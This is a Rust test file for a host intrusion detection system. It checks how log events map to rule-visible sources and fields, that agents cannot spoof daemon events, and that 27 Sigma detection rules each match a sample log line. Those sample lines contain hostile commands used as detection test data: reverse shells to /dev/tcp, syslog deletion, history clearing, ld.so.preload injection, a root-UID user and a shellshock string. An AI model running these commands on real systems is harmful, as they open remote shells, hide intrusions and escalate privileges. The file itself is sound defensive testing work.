//! What rules see of each kind of event, and what no agent can make them see.

use std::fs;
use std::path::{Path, PathBuf};

use hidps_agent::normalize::{LineSource, normalize};
use hidps_rules::{Engine, Limits, RuleFile, RuleSet, Scope};
use hidps_wire::{EventKind, Fields};
use jiff::Timestamp;
use jiff::tz::TimeZone;
use proptest::prelude::*;

use super::*;

fn event<'a>(
    kind: EventKind,
    service: &'a str,
    fields: &[(&'a str, FieldValue<'a>)],
) -> LogEvent<'a> {
    let mut all = Fields::default();
    for (name, value) in fields {
        assert!(all.push(*name, value.clone()), "few fields fit");
    }
    LogEvent {
        timestamp: "2026-11-21T01:02:03Z".into(),
        kind,
        service: service.into(),
        message: "a message".into(),
        fields: all,
    }
}

/// The log source as `category/product/service+also`, and the fields as `name=value`.
fn seen(event: &LogEvent<'_>) -> (String, String) {
    let view = RuleView::of(event);
    let source = view.source;
    let [category, product, service] =
        [source.category, source.product, source.service].map(|part| part.unwrap_or("*"));
    let also = source.also.join("+");
    let fields: Vec<String> = view
        .fields
        .iter()
        .map(|(name, value)| match value {
            Value::Str(text) => format!("{name}={text}"),
            Value::Int(_) | Value::Float(_) | Value::Bool(_) => format!("{name}={value:?}"),
        })
        .collect();
    (
        format!("{category}/{product}/{service}+{also}"),
        fields.join("|"),
    )
}

#[test]
fn every_kind_of_event_has_its_log_source() {
    let check = |kind, service, fields: &[(&str, &str)], expected: &str| {
        let fields: Vec<_> = fields
            .iter()
            .map(|(name, value)| (*name, FieldValue::from(*value)))
            .collect();
        let event = event(kind, service, &fields);
        assert_eq!(seen(&event).0, expected, "{event:?}");
    };
    let process = EventKind::Process;

    check(EventKind::Login, "sshd", &[], "*/linux/sshd+auth+syslog");
    check(EventKind::Firewall, "ufw", &[], "*/linux/ufw+kernel+syslog");
    check(EventKind::Firewall, "kernel", &[], "*/linux/kernel+syslog");
    check(process, "nginx", &[], "*/linux/nginx+syslog");
    check(process, "cron", &[], "*/linux/cron+auth+syslog");
    check(process, "crontab", &[], "*/linux/crontab+cron+auth+syslog");
    check(process, "clamd", &[], "*/linux/clamd+clamav+syslog");
    check(process, "guacd", &[], "*/linux/guacd+guacamole+syslog");
    let by_pam = [("pam_module", "pam_unix")];
    check(EventKind::Login, "gdm", &by_pam, "*/linux/gdm+auth+syslog");
    let image = [("Image", "/bin/sh")];
    check(process, "exec", &image, "process_creation/linux/*+");
    let unseen = [("ProcessId", "7"), ("ParentImage", "/bin/sh")];
    check(process, "process", &unseen, "process_creation/linux/*+");
    let exit = [("event", "exited"), ("Image", "/bin/sh")];
    check(process, "process", &exit, "*/hidps/process+");
    let connection = [("Image", "/bin/sh"), ("DestinationIp", "192.0.2.7")];
    check(
        process,
        "socket",
        &connection,
        "network_connection/linux/*+",
    );
    let port = [("event", "listening_port_opened"), ("Image", "/bin/nc")];
    check(process, "network", &port, "*/hidps/network+");
    let record = [("type", "EXECVE"), ("a0", "id")];
    check(process, "auditd", &record, "*/linux/auditd+");
    check(process, "auditd", &[], "*/linux/auditd+syslog");
    check(
        EventKind::FileMonitoring,
        "inotify",
        &[],
        "file_event/linux/*+",
    );
    check(EventKind::SystemUsage, "usage", &[], "*/hidps/usage+");
    check(EventKind::AgentInfo, "agent", &[], "*/hidps/agent+");
}

#[test]
fn the_envelope_is_no_field_and_a_records_own_type_is() {
    let record = event(
        EventKind::Process,
        "auditd",
        &[("type", "EXECVE".into()), ("a0", "id".into())],
    );

    assert_eq!(seen(&record).1, "type=EXECVE|a0=id");
}

#[test]
fn a_line_carries_the_name_of_its_program() {
    let plain = event(EventKind::Process, "pkexec", &[]);
    let renamed = event(
        EventKind::Login,
        "sshd",
        &[("program", "sshd-session".into())],
    );

    assert_eq!(seen(&plain).1, "program=pkexec");
    assert_eq!(seen(&renamed).1, "program=sshd-session");
}

#[test]
fn the_path_of_a_deleted_program_is_its_path() {
    let started = event(
        EventKind::Process,
        "exec",
        &[
            ("Image", "/tmp/x (deleted)".into()),
            ("ParentImage", "/usr/bin/bash (deleted)".into()),
        ],
    );

    assert_eq!(
        seen(&started).1,
        "Image=/tmp/x|ImageDeleted=Bool(true)|ParentImage=/usr/bin/bash"
    );
}

#[test]
fn an_agent_cannot_speak_for_the_daemon() {
    let of = |kind, name| {
        let event = event(kind, "agent", &[("event", name)]);
        seen(&event).1
    };

    for name in ["silent", "back", "twin", "clock_skew", "TWIN", "Silent"] {
        let claimed = format!("claimed_event={name}");
        assert_eq!(of(EventKind::AgentInfo, name.into()), claimed);
        assert_eq!(of(EventKind::SystemUsage, name.into()), claimed);
    }
    let number = of(EventKind::AgentInfo, FieldValue::Integer(5));
    assert_eq!(number, "claimed_event=Int(5)");
    let own = of(EventKind::AgentInfo, "events_lost".into());
    assert_eq!(own, "event=events_lost");
    let twice = event(
        EventKind::AgentInfo,
        "agent",
        &[("event", "started".into()), ("event", "twin".into())],
    );
    assert_eq!(seen(&twice).1, "event=started|claimed_event=twin");
}

proptest! {
    #[test]
    fn no_event_of_an_agent_is_an_observation_of_the_daemon(
        kind in prop::sample::select(vec![
            EventKind::SystemUsage, EventKind::Process, EventKind::Firewall, EventKind::Login,
            EventKind::FileMonitoring, EventKind::AgentInfo,
        ]),
        service in prop::sample::select(vec!["agent", "usage", "network", "sshd", "AGENT"]),
        names in prop::collection::vec(
            prop::sample::select(vec!["event", "Event", "seconds", "Image", "type"]), 0..4),
        word in prop::sample::select(vec!["silent", "SILENT", "twin", "back", "clock_skew", "cloc\u{212a}_skew"]),
    ) {
        let fields: Vec<_> = names.iter().map(|name| (*name, FieldValue::from(word))).collect();
        let event = event(kind, service, &fields);
        let view = RuleView::of(&event);

        let is_ours = view.source.product == Some("hidps");
        let claims = view.fields.iter().any(|(name, _)| *name == "event");
        prop_assert!(!(is_ours && claims), "{:?}", view);
    }
}

/// The community's rules over log lines, and a line of a program that each is about.
const REACHED: [(&str, &str, &str); 27] = [
    (
        "lnx_sshd_exploit_cve_2018_15473",
        "sshd",
        "error: buffer_get_ret: trying to get more bytes 1907 than in buffer 308 [preauth]",
    ),
    (
        "lnx_sudo_exploit_cve_2019_14287",
        "sudo",
        "     bob : TTY=pts/0 ; PWD=/home/bob ; USER=#-1 ; COMMAND=/bin/sh",
    ),
    (
        "lnx_auth_exploit_cve_2021_4034_pwnkit_lpe",
        "pkexec",
        "bob: The value for environment variable XAUTHORITY contains suspicious content [USER=root] [TTY=/dev/pts/0] [CWD=/tmp] [COMMAND=x]",
    ),
    (
        "lnx_exploit_cve_2022_27999_cve_2022_27800",
        "networkd-dispatcher",
        "ERROR:Error handling notification for interface \"lo\" entering operational state ../../tmp/x",
    ),
    (
        "lnx_sshd_exploit_cve_2023_2283_libssh_authentication_bypass",
        "sshd",
        "Failed to generate curve25519 keys",
    ),
    (
        "lnx_clamav_relevant_message",
        "clamd",
        "/srv/www/x.php: Php.Trojan.Small-1 FOUND",
    ),
    (
        "lnx_cron_crontab_file_modification",
        "crontab",
        "(root) REPLACE (bob)",
    ),
    (
        "lnx_guacamole_susp_guacamole",
        "guacd",
        "User \"@1\" joined connection \"$2\" (2 users now present)",
    ),
    ("lnx_apt_equationgroup_lnx", "bash", "root: /tmp/ratload"),
    (
        "lnx_buffer_overflows",
        "kernel",
        "[5.000001] x[9]: stack smashing detected",
    ),
    (
        "lnx_clear_syslog",
        "sudo",
        "root : PWD=/ ; USER=root ; COMMAND=/bin/rm /var/log/syslog",
    ),
    ("lnx_file_copy", "bash", "root: scp x bob@host:/tmp"),
    (
        "lnx_ldso_preload_injection",
        "bash",
        "root: echo /tmp/x.so >/etc/ld.so.preload",
    ),
    (
        "lnx_potential_susp_ebpf_activity",
        "kernel",
        "[5.000001] x[9] is installing a program with bpf_probe_write_user helper that may corrupt user memory!",
    ),
    (
        "lnx_privileged_user_creation",
        "useradd",
        "new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0",
    ),
    ("lnx_shell_clear_cmd_history", "bash", "root: history -c"),
    (
        "lnx_shell_susp_commands",
        "bash",
        "root: python -m SimpleHTTPServer",
    ),
    (
        "lnx_shell_susp_log_entries",
        "kernel",
        "[5.000001] device eth0 entered promiscuous mode",
    ),
    (
        "lnx_shell_susp_rev_shells",
        "bash",
        "root: bash -i >& /dev/tcp/192.0.2.7/80 0>&1",
    ),
    ("lnx_shellshock", "httpd", "x() { :;}; echo"),
    (
        "lnx_susp_dev_tcp",
        "bash",
        "root: cat </dev/tcp/192.0.2.7/80",
    ),
    (
        "lnx_susp_jexboss",
        "bash",
        "jboss: bash -c /bin/bash -i>&/dev/tcp/192.0.2.7/80",
    ),
    (
        "lnx_symlink_etc_passwd",
        "bash",
        "root: ln -s /etc/passwd x",
    ),
    (
        "lnx_sshd_susp_ssh",
        "sshd",
        "ssh_dispatch_run_fatal: Connection from 192.0.2.7 port 5: incorrect signature [preauth]",
    ),
    (
        "lnx_syslog_security_tools_disabling_syslog",
        "systemd",
        "Stopping iptables...",
    ),
    (
        "lnx_syslog_susp_named",
        "named",
        "client 192.0.2.7#5: denied AXFR from 192.0.2.7",
    ),
    (
        "lnx_vsftpd_susp_error_messages",
        "vsftpd",
        "CONNECT: Client \"192.0.2.7\", \"Connection refused: too many sessions for this address.\"",
    ),
];

/// The folder of community rules, if there is one.
fn find_rules() -> Option<PathBuf> {
    let given = std::env::var_os("HIDPS_SIGMA_RULES").map(PathBuf::from);
    let default = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/data/sigma");
    let folder = given.unwrap_or(default);
    folder.is_dir().then_some(folder)
}

/// Finds the wanted rule files below a folder.
fn collect_rules(folder: &Path, found: &mut Vec<(String, String)>) {
    for entry in fs::read_dir(folder).expect("the folder of rules is readable") {
        let path = entry.expect("the entry is readable").path();
        let stem = path.file_stem().unwrap_or_default().to_string_lossy();
        if path.is_dir() {
            collect_rules(&path, found);
        } else if REACHED.iter().any(|(name, ..)| *name == stem) {
            let text = fs::read_to_string(&path).expect("the rule is readable");
            found.push((stem.into_owned(), text));
        }
    }
}

#[test]
fn every_community_rule_over_log_lines_is_reached_by_a_line() {
    let Some(folder) = find_rules() else {
        let test = "every_community_rule_over_log_lines_is_reached_by_a_line";
        hidps_lab::say_skipped(test, &"set HIDPS_SIGMA_RULES to a copy of the rules");
        return;
    };
    let mut rules = Vec::new();
    collect_rules(&folder, &mut rules);
    assert_eq!(rules.len(), REACHED.len(), "each rule is there");

    for (rule, program, message) in REACHED {
        let text = rules.iter().find(|(name, _)| name == rule);
        let (name, text) = text.expect("each rule is there once");
        let set = RuleSet::compile(&[RuleFile { name, text }]).expect("the rule compiles");
        let line = format!("Nov 21 01:02:03 web-01 {program}[9]: {message}");
        let source = LineSource {
            program: "unknown",
            seen: Timestamp::UNIX_EPOCH,
            zone: TimeZone::UTC,
        };
        let event = normalize(&line, &source).event;
        let view = RuleView::of(&event);
        let mut n_matches = 0;
        let mut engine = Engine::new(set, Limits::default());
        engine.observe(Scope(1), &view.event(), 0, &mut |_| n_matches += 1);
        assert_eq!(n_matches, 1, "{rule} is reached by {line}");
    }
}
